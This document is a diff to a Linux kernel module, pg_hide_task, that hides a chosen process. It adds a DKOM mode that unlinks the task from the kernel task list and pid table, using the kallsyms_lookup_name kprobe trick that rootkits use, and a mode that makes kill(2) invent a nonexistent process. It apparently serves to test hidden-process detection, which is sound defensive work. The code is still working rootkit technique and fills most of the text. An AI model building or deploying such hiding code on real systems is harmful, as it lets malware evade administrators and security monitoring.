@@ -15,7 +15,17 @@
  * Each is a kprobe whose pre_handler makes the function return at once (pg_override.h).
  * With only_iterator=1 only the last one is registered: the iterator's output alone lies.
  *
- *   insmod pg_hide_task.ko pid=1234 [only_iterator=1]
+ * With unlink=1 no kprobe is registered: the task is hidden the DKOM way, unlinked from the
+ * task list (init_task.tasks) and its pid taken out of its namespace's pid table (the idr every
+ * lookup by pid goes through), under the locks the kernel itself takes (found with the
+ * kprobe-on-kallsyms_lookup_name trick, as rootkits do). It still sits on its parent's children
+ * list, its cgroup's css_set task list and its struct pid; a /proc/<pid> dentry cached before
+ * keeps answering stat. rmmod links it back, if it is still alive.
+ *
+ * With invent=1 only the kill(2) probe is registered, and it answers 0 for `pid`, which no task
+ * has: a view that invents a process.
+ *
+ *   insmod pg_hide_task.ko pid=1234 [only_iterator=1 | unlink=1 | invent=1]
  */
 #include <linux/dcache.h>
 #include <linux/err.h>
@@ -24,6 +34,11 @@
 #include <linux/kprobes.h>
 #include <linux/module.h>
 #include <linux/moduleparam.h>
+#include <linux/pid.h>
+#include <linux/pid_namespace.h>
+#include <linux/rculist.h>
+#include <linux/sched/signal.h>
+#include <linux/sched/task.h>
 #include <linux/string.h>
 
 #include "pg_override.h"
@@ -34,6 +49,12 @@ MODULE_PARM_DESC(pid, "the pid hidden from every text view");
 static bool only_iterator;
 module_param(only_iterator, bool, 0444);
 MODULE_PARM_DESC(only_iterator, "filter the task iterator's output only");
+static bool unlink_task;
+module_param_named(unlink, unlink_task, bool, 0444);
+MODULE_PARM_DESC(unlink, "unlink the task from the task list and the pid table instead");
+static bool invent;
+module_param(invent, bool, 0444);
+MODULE_PARM_DESC(invent, "make kill(2) answer for a pid no task has instead");
 static unsigned long listed, looked_up, killed, iterated;
 module_param(listed, ulong, 0444);
 module_param(looked_up, ulong, 0444);
@@ -94,7 +115,7 @@ static int pg_kill(struct kprobe *p, struct pt_regs *regs)
 	if ((int)user->di != pid)
 		return 0;
 	pg_count(&killed);
-	return pg_override(regs, (unsigned long)-ESRCH);
+	return pg_override(regs, invent ? 0 : (unsigned long)-ESRCH);
 }
 
 /* u64 bpf_seq_write(u64 seq, u64 data, u64 len): data is the program's stack */
@@ -115,9 +136,91 @@ static struct kprobe pg_probes[] = {
 };
 static struct kprobe *pg_list[ARRAY_SIZE(pg_probes)];
 
+enum { PG_KILL = 3 }; /* pg_probes[PG_KILL] is the kill(2) probe */
+
 static int pg_first(void)
 {
+	if (invent)
+		return PG_KILL;
 	return only_iterator ? ARRAY_SIZE(pg_probes) - 1 : 0;
+}
+
+static int pg_many(void)
+{
+	return invent ? 1 : ARRAY_SIZE(pg_probes) - pg_first();
+}
+
+/* --- unlink=1: DKOM --------------------------------------------------------------------- */
+
+static rwlock_t *pg_tasklist_lock;
+static spinlock_t *pg_pidmap_lock;
+static struct task_struct *unlinked;
+static struct pid *unlinked_pid;
+static struct pid_namespace *unlinked_ns;
+
+/* kallsyms_lookup_name is not exported since 5.7; a kprobe on it tells where it is. */
+static unsigned long pg_lookup_name(const char *symbol)
+{
+	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
+	unsigned long (*lookup)(const char *);
+
+	if (register_kprobe(&kp))
+		return 0;
+	lookup = (unsigned long (*)(const char *))kp.addr;
+	unregister_kprobe(&kp);
+	return lookup(symbol);
+}
+
+static int pg_unlink(void)
+{
+	pg_tasklist_lock = (rwlock_t *)pg_lookup_name("tasklist_lock");
+	pg_pidmap_lock = (spinlock_t *)pg_lookup_name("pidmap_lock");
+	if (!pg_tasklist_lock || !pg_pidmap_lock)
+		return -ENOENT;
+	unlinked_pid = find_get_pid(pid);
+	unlinked = get_pid_task(unlinked_pid, PIDTYPE_PID);
+	if (!unlinked || !thread_group_leader(unlinked)) {
+		if (unlinked)
+			put_task_struct(unlinked);
+		put_pid(unlinked_pid);
+		unlinked = NULL;
+		return -ESRCH;
+	}
+	unlinked_ns = get_pid_ns(task_active_pid_ns(unlinked));
+	write_lock_irq(pg_tasklist_lock);
+	list_del_rcu(&unlinked->tasks);
+	write_unlock_irq(pg_tasklist_lock);
+	spin_lock_irq(pg_pidmap_lock);
+	idr_remove(&unlinked_ns->idr, pid);
+	spin_unlock_irq(pg_pidmap_lock);
+	/* Once no walker can be on it, the node links to itself, so that the task's own exit
+	 * (list_del_rcu in __unhash_process) stays harmless if it dies unlinked. */
+	synchronize_rcu();
+	INIT_LIST_HEAD(&unlinked->tasks);
+	pr_info("pg_hide_task: pid %d unlinked from the task list and the pid table\n", pid);
+	return 0;
+}
+
+static void pg_relink(void)
+{
+	bool alive;
+
+	idr_preload(GFP_KERNEL);
+	/* release_task runs under tasklist_lock: the task cannot exit while it is held */
+	write_lock_irq(pg_tasklist_lock);
+	alive = pid_alive(unlinked);
+	if (alive)
+		list_add_tail_rcu(&unlinked->tasks, &init_task.tasks);
+	write_unlock_irq(pg_tasklist_lock);
+	if (alive) {
+		spin_lock_irq(pg_pidmap_lock);
+		idr_alloc(&unlinked_ns->idr, unlinked_pid, pid, pid + 1, GFP_ATOMIC);
+		spin_unlock_irq(pg_pidmap_lock);
+	}
+	idr_preload_end();
+	put_pid_ns(unlinked_ns);
+	put_task_struct(unlinked);
+	put_pid(unlinked_pid);
 }
 
 static int __init pg_hide_task_init(void)
@@ -126,10 +229,12 @@ static int __init pg_hide_task_init(void)
 
 	if (pid <= 0)
 		return -EINVAL;
+	if (unlink_task)
+		return pg_unlink();
 	name_len = snprintf(name, sizeof(name), "%d", pid);
 	for (i = 0; i < ARRAY_SIZE(pg_probes); i++)
 		pg_list[i] = &pg_probes[i];
-	err = register_kprobes(pg_list + pg_first(), ARRAY_SIZE(pg_list) - pg_first());
+	err = register_kprobes(pg_list + pg_first(), pg_many());
 	if (err)
 		pr_err("pg_hide_task: register_kprobes: %d\n", err);
 	else
@@ -139,7 +244,11 @@ static int __init pg_hide_task_init(void)
 
 static void __exit pg_hide_task_exit(void)
 {
-	unregister_kprobes(pg_list + pg_first(), ARRAY_SIZE(pg_list) - pg_first());
+	if (unlink_task) {
+		pg_relink();
+		return;
+	}
+	unregister_kprobes(pg_list + pg_first(), pg_many());
 }
 
 module_init(pg_hide_task_init);
